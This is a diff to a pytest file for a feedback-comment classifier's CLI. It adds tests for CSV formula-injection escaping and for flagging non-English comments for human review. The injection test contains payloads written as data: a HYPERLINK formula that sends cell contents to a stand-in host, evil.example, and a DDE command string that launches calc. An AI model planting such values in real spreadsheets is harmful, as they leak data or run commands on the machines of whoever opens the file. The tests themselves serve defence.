@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import re
 
 import numpy as np
 import pytest
@@ -11,7 +12,8 @@ from baton.insight.feedback import cli
 from baton.insight.feedback import engine as E
 
 LABELS = E.sub_categories()
-OUT_COLUMNS = ["comment_id", "sentiment", *LABELS, "confidence"]
+# The first version's columns, then the ones added since: at the end, so positions do not move.
+OUT_COLUMNS = ["comment_id", "sentiment", *LABELS, "confidence", "language", "note"]
 
 
 def _write(path, header, rows, encoding="utf-8"):
@@ -328,3 +330,52 @@ def test_short_rows_are_padded(tmp_path, tiny_model_path):
     rows = _read(out)
     assert [r["comment_id"] for r in rows] == ["1", "2"]
     assert rows[1]["Labelling not possible"] == "1"
+
+
+def test_formulas_in_ids_and_comments_never_reach_the_spreadsheet(tmp_path, tiny_model_path):
+    hyperlink = '=HYPERLINK("https://evil.example/?d="&A2,"Click")'
+    src = _write(
+        tmp_path / "in.csv",
+        ["comment_id", "comment_text"],
+        [
+            [hyperlink, "The crew were kind"],
+            ["+cmd|' /C calc'!A0", "Waited four hours"],
+            ["@SUM(1+1)", hyperlink],
+            ["-3", "Food was cold"],
+            ["-0.5", "@SUM(1+1)"],
+        ],
+    )
+    out = tmp_path / "o.csv"
+    assert cli.main(["classify", str(src), "--out", str(out), "--model", str(tiny_model_path), "-q"]) == 0
+    rows = _read(out)
+    assert [r["comment_id"] for r in rows] == ["'" + hyperlink, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "-3", "-0.5"]
+    with open(out, encoding="utf-8", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    numbers = re.compile(r"-?\d+(\.\d+)?")
+    assert all(c[:1] not in {"=", "+", "@", "-"} or numbers.fullmatch(c) for c in cells)
+
+
+def test_comments_in_other_languages_are_named_and_left_for_a_person(tmp_path, tiny_model_path):
+    src = _write(
+        tmp_path / "in.csv",
+        ["comment_id", "comment_text", "question_type"],
+        [
+            ["1", "انتظرت خمس ساعات في قسم الطوارئ ولم يتحدث معي أي طبيب. الممرضة كانت وقحة جداً.", "could_improve"],
+            ["2", "میں نے ایمبولینس کے لیے چار گھنٹے انتظار کیا اور کسی نے میری بات نہیں سنی۔", "could_improve"],
+            ["3", "Czekałem pięć godzin na lekarza i nikt mi nie pomógł. Pielęgniarka była bardzo niemiła.", ""],
+            ["4", "Waited five hours and no doctor spoke to me, the nurse was rude", "could_improve"],
+            ["5", "ok", "what_good"],
+        ],
+    )
+    out = tmp_path / "o.csv"
+    assert cli.main(["classify", str(src), "--out", str(out), "--model", str(tiny_model_path), "-q"]) == 0
+    rows = _read(out)
+    for r, code, name in zip(rows, ["ar", "ur", "pl"], ["Arabic", "Urdu", "Polish"]):
+        assert r["language"] == code
+        assert r["note"] == f"not English ({name}): no themes or sentiment given"
+        assert r["sentiment"] == "" and r["confidence"] == "0.000"
+        assert all(r[lab] == "0" for lab in LABELS)
+    english, short = rows[3], rows[4]
+    assert english["language"] == "en" and english["note"] == "" and english["sentiment"] in {"4", "5"}
+    assert short["language"] == "" and short["note"] == "" and short["sentiment"] in {"1", "2", "3", "4", "5"}
+    assert sum(int(english[lab]) for lab in LABELS) >= 1 and sum(int(short[lab]) for lab in LABELS) >= 1
